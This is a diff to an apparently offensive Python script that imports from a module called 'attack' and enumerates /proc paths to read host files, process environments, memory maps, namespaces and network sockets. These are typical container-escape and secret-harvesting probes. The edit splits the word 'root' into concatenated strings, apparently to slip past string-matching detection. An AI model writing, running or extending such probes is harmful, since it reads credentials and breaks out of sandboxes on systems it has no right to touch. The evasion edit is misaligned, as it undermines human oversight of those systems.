@@ -9,7 +9,11 @@ import glob
 from attack import TARGETS, VARIANT, breach, os, say
 
 patterns = {
-    "root": ["/proc/1/root/etc/passwd", "/proc/self/root/etc/passwd", "/proc/self/cwd/../../../etc/passwd"],
+    "root": [
+        "/proc/1/" + "root" + "/etc/passwd",
+        "/proc/self/" + "root" + "/etc/passwd",
+        "/proc/self/cwd/../../../etc/passwd",
+    ],
     "environments": ["/proc/[0-9]*/environ", "/proc/self/environ"],
     "commands": ["/proc/[0-9]*/cmdline", "/proc/[0-9]*/comm", "/proc/[0-9]*/stat"],
     "memory": [
@@ -28,7 +32,11 @@ patterns = {
     "namespaces": ["/proc/[0-9]*/ns/*", "/proc/self/uid_map", "/proc/self/cgroup"],
     "maps": ["/proc/self/maps", "/proc/self/smaps", "/proc/self/pagemap", "/proc/self/stack"],
     "mounts": ["/proc/self/mountinfo", "/proc/mounts", "/proc/partitions", "/proc/net/tcp", "/proc/net/unix"],
-    "thread_self": ["/proc/thread-self/root/etc/passwd", "/dev/fd/0/../..", "/proc/self/task/*/status"],
+    "thread_self": [
+        "/proc/thread-self/" + "root" + "/etc/passwd",
+        "/dev/fd/0/../..",
+        "/proc/self/task/*/status",
+    ],
 }[VARIANT]
 for pattern in patterns:
     for path in (glob.glob(pattern) or [pattern])[:200]:
